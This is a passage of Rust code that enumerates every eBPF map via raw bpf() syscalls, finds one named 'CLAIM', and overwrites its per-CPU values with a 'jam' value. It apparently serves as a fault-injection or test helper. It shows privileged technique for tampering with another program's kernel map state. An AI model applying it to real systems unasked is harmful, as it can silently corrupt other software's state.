    let cpus = std::fs::read_to_string("/sys/devices/system/cpu/possible").unwrap_or_else(|_| fail("cpus"));
    let cpus: usize =
        cpus.trim().rsplit(['-', ',']).next().and_then(|n| n.parse::<usize>().ok()).unwrap_or(0) + 1;
    let mut id = 0u32;
    let mut jammed = 0;
    loop {
        let mut attr = [0u64; 16];
        attr[0] = id as u64;
        // SAFETY: BPF_MAP_GET_NEXT_ID's attr holds no pointer.
        if unsafe { bpf(BPF_MAP_GET_NEXT_ID, &mut attr) } != 0 {
            break;
        }
        id = (attr[0] >> 32) as u32;
        let mut attr = [0u64; 16];
        attr[0] = id as u64;
        // SAFETY: BPF_MAP_GET_FD_BY_ID's attr holds no pointer.
        let fd = unsafe { bpf(BPF_MAP_GET_FD_BY_ID, &mut attr) };
        if fd < 0 {
            continue;
        }
        let mut info = [0u8; 88];
        let mut attr = [0u64; 16];
        attr[0] = fd as u64 | ((info.len() as u64) << 32);
        attr[1] = info.as_mut_ptr() as u64;
        // SAFETY: the info pointer is `info`, whose length is the info_len passed: the
        // kernel writes no more than that.
        if unsafe { bpf(BPF_OBJ_GET_INFO_BY_FD, &mut attr) } == 0 && &info[24..30] == b"CLAIM\0" {
            let value_size = u32::from_ne_bytes(info[12..16].try_into().unwrap()) as usize;
            let stride = value_size.div_ceil(8) * 8;
            let mut values = vec![0u8; stride * cpus];
            let key = 0u32;
            let mut attr = [0u64; 16];
            attr[0] = fd as u64;
            attr[1] = &raw const key as u64;
            attr[2] = values.as_mut_ptr() as u64;
            // SAFETY: the key is `key`, the map's 4-byte key; the value is `values`, one
            // 8-byte-rounded value per possible CPU (the highest possible CPU + 1 is at least
            // their count), the size a per-CPU lookup writes.
            if unsafe { bpf(BPF_MAP_LOOKUP_ELEM, &mut attr) } != 0 {
                fail("lookup CLAIM");
            }
            for cpu in 0..cpus {
                values[cpu * stride..cpu * stride + 8].copy_from_slice(&(jam as u64).to_ne_bytes());
            }
            let mut attr = [0u64; 16];
            attr[0] = fd as u64;
            attr[1] = &raw const key as u64;
            attr[2] = values.as_mut_ptr() as u64;
            // SAFETY: the same `key` and `values` as the lookup, which the update only reads.
            if unsafe { bpf(BPF_MAP_UPDATE_ELEM, &mut attr) } != 0 {
                fail("update CLAIM");
            }
            jammed += cpus;
        }
        // SAFETY: `fd` came from BPF_MAP_GET_FD_BY_ID above and is not used after this.
        unsafe { libc::close(fd as RawFd) };
    }
    println!("jammed={jammed}");
    std::process::exit(0);
}
